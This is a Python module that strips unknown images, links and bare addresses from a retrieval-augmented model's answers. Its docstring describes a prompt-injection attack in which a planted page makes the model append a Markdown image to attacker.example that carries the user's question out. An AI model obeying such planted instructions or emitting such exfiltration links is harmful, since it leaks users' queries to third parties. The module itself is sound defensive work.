"""Links in answers: an image or link the sources do not hold is taken out before the client sees it.

A planted page can tell the model to end its answer with `![](https://attacker.example/log?q=<the question>)`:
a chat client that renders Markdown fetches that image, and the question (or whatever the model was told to put
in the address) leaves with it, no click needed. A link or bare address works the same way with one click. So, in
every checked answer sentence, an image, a link or a bare address whose target is absolute (a scheme, or `//`)
is kept only when the retrieved sources hold that address (in their text or as their URL) or its host is one the
operator lists (RAGGUARD_ANSWER_LINK_HOSTS); otherwise an image goes entirely, a link keeps its text, and a bare
address becomes `[link removed]`. Relative links (`#usage`, `docs/api.md`) stay. RAGGUARD_ANSWER_LINKS=any turns
this off. Patterns run on RE2 (linear in the answer's length).
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

import re2

from index.base import Hit

# A Markdown image or link: "!" for an image, its text, its target (an optional "title" after it)
_MARKDOWN = re2.compile(r"(!?)\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_HTML_IMAGE = re2.compile(r"(?i)<img\b[^>]*>")
_HTML_SRC = re2.compile(r"(?i)\bsrc\s*=\s*[\"']?([^\"'\s>]+)")
_ADDRESS = re2.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,15}://|www\.)[^\s<>()\[\]\"'`]+")
_MAYBE = re2.compile(r"(?i):|www\.")  # anything absolute has one of these
_SCHEME = re2.compile(r"(?i)^(?:[a-z][a-z0-9+.-]{1,15}:|//)")
_TRAILING = ".,;:!?"
REMOVED = "[link removed]"


@dataclass(frozen=True)
class LinkPolicy:
    """What an answer may link to: addresses the sources hold, and hosts the operator lists."""

    hosts: frozenset[str] = frozenset()

    def allowed(self, target: str, known: frozenset[str]) -> bool:
        """A relative target, an address the sources hold, or one on a listed host."""
        target = target.strip().rstrip(_TRAILING)
        if not _SCHEME.search(target) and not target.lower().startswith("www."):
            return True  # relative: stays on the client's own site
        host = (urlsplit(target if "//" in target else "//" + target).hostname or "").lower()
        return target in known or (bool(host) and host in self.hosts)

    def scrub(self, text: str, known: frozenset[str]) -> tuple[str, Counter[str]]:
        """(the text without the images, links and addresses that are not `known` (`known_addresses` of the
        retrieved chunks) nor on a listed host, how many of each went)."""
        removed: Counter[str] = Counter()
        if not _MAYBE.search(text):  # nothing that could be an absolute address: most sentences
            return text, removed
        kept: list[str] = []  # Markdown that stays is set aside, so its target is not read as a bare address

        def markdown(m: re2._Match) -> str:
            if self.allowed(m.group(3), known):
                kept.append(m.group(0))
                return f"\x00{len(kept) - 1}\x00"
            removed["image" if m.group(1) else "link"] += 1
            return "" if m.group(1) else m.group(2)  # an image goes; a link keeps its text

        def html_image(m: re2._Match) -> str:
            if (src := _HTML_SRC.search(m.group(0))) is not None and self.allowed(src.group(1), known):
                return m.group(0)
            removed["image"] += 1
            return ""

        def address(m: re2._Match) -> str:
            target = m.group(0).rstrip(_TRAILING)  # "see https://x.example/a." ends the sentence, not the address
            if self.allowed(target, known):
                return m.group(0)
            removed["address"] += 1
            return REMOVED + m.group(0)[len(target):]

        text = _ADDRESS.sub(address, _HTML_IMAGE.sub(html_image, _MARKDOWN.sub(markdown, text)))
        for k, original in enumerate(kept):
            text = text.replace(f"\x00{k}\x00", original)
        return text, removed


def known_addresses(hits: Iterable[Hit]) -> frozenset[str]:
    """The addresses an answer may link to: those in the retrieved chunks' text, and their URLs."""
    return frozenset(a.rstrip(_TRAILING) for hit in hits for t in (hit.chunk.text, hit.chunk.url or "")
                     for a in _ADDRESS.findall(t))
